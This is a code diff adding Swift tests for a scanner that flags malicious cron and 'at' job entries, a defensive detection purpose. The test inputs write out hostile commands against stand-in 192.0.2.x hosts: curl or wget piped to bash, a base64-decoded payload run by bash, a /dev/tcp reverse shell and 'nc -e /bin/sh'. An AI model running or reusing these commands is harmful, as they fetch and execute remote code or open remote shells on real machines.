@@ -6,6 +6,10 @@ import Testing
     @Test(arguments: [
         ("* * * * * root curl -s http://192.0.2.1/a | bash", ["download high"]),
         ("* * * * * root wget -qO- http://192.0.2.1/a|sh -s -- x", ["download high"]),
+        ("* * * * * root curl -s http://192.0.2.1/a | bash; true", ["download high"]),
+        ("* * * * * root curl -s http://192.0.2.1/a |& nohup bash>/dev/null 2>&1", ["download high"]),
+        ("* * * * * root curl\t-s\thttp://192.0.2.1/a\t|\tbash", ["download high"]),
+        ("* * * * * root curl -s http://192.0.2.1/a | tee /var/log/sh; true", []),
         ("* * * * * root bash -c \"$(curl -fsSL http://192.0.2.1)\"", ["download high"]),
         ("@reboot root echo Y3VybA== | base64 -d | bash", ["decoded high"]),
         ("@hourly root bash -i >& /dev/tcp/192.0.2.1/443 0>&1", ["connection high"]),
@@ -74,6 +78,42 @@ import Testing
                 "at alice | at \(0x1c89261 * 60) s since 1970 | /tmp/evil --now | /var/spool/cron/atjobs/a0000101c89261:10",
             ])
         #expect(try await tree.told().contains("accounts.schedules temporary high"))
+    }
+
+    @Test(arguments: [
+        ("id\nwget -qO- http://192.0.2.9/b | bash\n", ["12 wget -qO- http://192.0.2.9/b | bash"]),
+        ("id\n\nwget -qO- \\\nhttp://192.0.2.9/b |\n\n bash\n", ["13 wget -qO-  http://192.0.2.9/b | bash"]),
+        ("id\n/tmp/a\nls\nnc -e /bin/sh 192.0.2.7 99\n", ["12 /tmp/a", "14 nc -e /bin/sh 192.0.2.7 99"]),
+        ("cd /tmp/.x\nid\n./a\n", ["13 ./a"]), ("id\n/opt/.x/a\n", ["12 /opt/.x/a"]),
+        ("id\n${SHELL:-/bin/sh} << 'x'\nid\nx\n/tmp/a\n", ["15 /tmp/a"]),
+        (String(repeating: "id\n", count: 99) + "/tmp/a\n", ["110 /tmp/a"]),
+        ("id\n# wget -qO- http://192.0.2.9/b | bash\n", []),
+        ("wget -qO /srv/list http://192.0.2.9/b\nprintf x | sh /srv/ok\n", []),
+        ("cd /srv/app\n./a\nfind /tmp -delete\n", []),
+    ])
+    func `of at are judged line by line`(_ commands: String, _ shown: [String]) async throws {
+        for mark in [nil, "marcinDELIMITER0a1b"] {
+            let tree = try AccountTree()
+            let head =
+                "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPATH=/bin; export PATH\n"
+                + "cd / || {\n\t echo 'x' >&2\n\t exit 1\n}\n"
+            let text = mark.map { "${SHELL:-/bin/sh} << '\($0)'\n\(commands)\($0)\n" } ?? "\n" + commands
+            try tree.write("/var/spool/cron/atjobs/a0000101c89261", head + text, mode: 0o700)
+            let findings = try await tree.findings().filter { $0.check == "accounts.schedules" }
+            let lines = findings.flatMap(\.evidence).map { "\($0.locator.split(separator: ":")[1]) \($0.excerpt)" }
+            #expect(lines == shown)
+        }
+    }
+
+    @Test func `of at with more lines than are looked at are a gap`() async throws {
+        let tree = try AccountTree()
+        try tree.write(
+            "/var/spool/cron/atjobs/a0000101c89261",
+            "#!/bin/sh\n# atrun uid=0 gid=0\n" + String(repeating: "id\n", count: 1001), mode: 0o700)
+        #expect(
+            try await tree.gaps() == [
+                "/var/spool/cron/atjobs/a0000101c89261: more than 1000 lines; the rest was not read"
+            ])
     }
 
     @Test(arguments: [
